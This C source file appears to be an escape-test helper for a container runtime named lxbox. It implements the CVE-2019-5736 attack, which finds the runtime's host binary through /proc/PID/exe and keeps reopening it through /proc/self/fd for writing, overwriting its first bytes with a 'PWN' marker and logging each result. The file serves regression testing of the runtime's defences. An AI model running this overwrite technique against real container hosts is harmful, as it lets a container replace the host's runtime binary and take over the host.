/* The CVE-2019-5736 attack, run inside a container by the exe escape tests: watches /proc for
 * a process whose executable is lxbox's (its /proc/PID/exe names "lxbox": the host binary, or
 * the sealed exec stub), opens each one O_PATH, and retries open("/proc/self/fd/N", O_WRONLY)
 * every 2 ms, writing "PWN" over its first bytes as soon as an open succeeds (the host binary
 * is busy while a process runs it, and becomes writable once the last one exits).
 *   exe_watcher REPORT HOST_DEV HOST_INO [NAME]
 * NAME: what a link must contain to be attacked ("lxbox"; the VM tests watch "init", the guest
 * agent's path).
 * REPORT gets one line per event: "ready", "seen TARGET PID", "host-binary PID" (the handle is
 * the file whose st_dev/st_ino the test passed: the host binary), "wrote TARGET" (a write
 * succeeded), "write-refused TARGET ERRNO", then "done" once a file REPORT.stop exists (after
 * one more try at each handle) or after 120 s. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAX_HANDLES 64

struct handle {
    int fd;
    int pid;
    int done;
    char target[256];
};

static const char* report_path;
static const char* watched_name = "lxbox";

static void note(const char* fmt, const char* s, long a, long b) {
    char line[512];
    int n = snprintf(line, sizeof line, fmt, s, a, b);
    int fd = open(report_path, O_WRONLY | O_APPEND | O_CREAT | O_CLOEXEC, 0644);
    if (fd < 0) return;
    if (n > 0) (void)!write(fd, line, (size_t)n < sizeof line ? (size_t)n : sizeof line - 1);
    close(fd);
}

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static int held(const struct handle* h, int n, int pid) {
    for (int i = 0; i < n; ++i)
        if (h[i].pid == pid) return 1;
    return 0;
}

/* New processes whose exe names lxbox: opened O_PATH and added to h. */
static int scan(struct handle* h, int n, unsigned long long dev, unsigned long long ino) {
    DIR* proc = opendir("/proc");
    if (!proc) return n;
    struct dirent* e;
    const int self = getpid();
    while ((e = readdir(proc)) && n < MAX_HANDLES) {
        const int pid = atoi(e->d_name);
        if (pid <= 0 || pid == self || held(h, n, pid)) continue;
        char link[64], target[256] = {0};
        snprintf(link, sizeof link, "/proc/%d/exe", pid);
        if (readlink(link, target, sizeof target - 1) <= 0 || !strstr(target, watched_name)) continue;
        const int fd = open(link, O_PATH | O_CLOEXEC);
        if (fd < 0) continue; /* not dumpable (lxbox's init): refused */
        struct stat st;
        h[n] = (struct handle){fd, pid, 0, {0}};
        snprintf(h[n].target, sizeof h[n].target, "%s", target);
        note("seen %s %ld\n", target, pid, 0);
        if (fstat(fd, &st) == 0 && st.st_dev == dev && st.st_ino == ino) note("host-binary %s%ld\n", "", pid, 0);
        ++n;
    }
    closedir(proc);
    return n;
}

/* One try to write each handle not yet written or refused. */
static void attack(struct handle* h, int n) {
    for (int i = 0; i < n; ++i) {
        if (h[i].done) continue;
        char path[64];
        snprintf(path, sizeof path, "/proc/self/fd/%d", h[i].fd);
        const int w = open(path, O_WRONLY | O_CLOEXEC);
        if (w < 0) continue; /* ETXTBSY while it runs, EROFS, EACCES: try again */
        if (pwrite(w, "PWN", 3, 0) == 3)
            note("wrote %s\n", h[i].target, 0, 0);
        else
            note("write-refused %s %ld\n", h[i].target, errno, 0);
        close(w);
        h[i].done = 1;
    }
}

int main(int argc, char** argv) {
    if (argc != 4 && argc != 5) {
        fprintf(stderr, "usage: exe_watcher REPORT HOST_DEV HOST_INO [NAME]\n");
        return 2;
    }
    if (argc == 5) watched_name = argv[4];
    report_path = argv[1];
    const unsigned long long dev = strtoull(argv[2], NULL, 10), ino = strtoull(argv[3], NULL, 10);
    struct handle h[MAX_HANDLES];
    int n = 0;
    note("ready\n%s", "", 0, 0);
    char stop[512];
    snprintf(stop, sizeof stop, "%s.stop", report_path);
    const double start = now();
    double last_try = 0;
    /* /proc is scanned without pause (the exec'd process may live well under a millisecond),
     * the writes are retried every 2 ms. */
    while (now() - start < 120) {
        n = scan(h, n, dev, ino);
        if (now() - last_try >= 0.002) {
            if (access(stop, F_OK) == 0) break;
            attack(h, n);
            last_try = now();
        }
    }
    attack(h, n);
    note("done\n%s", "", 0, 0);
    return 0;
}
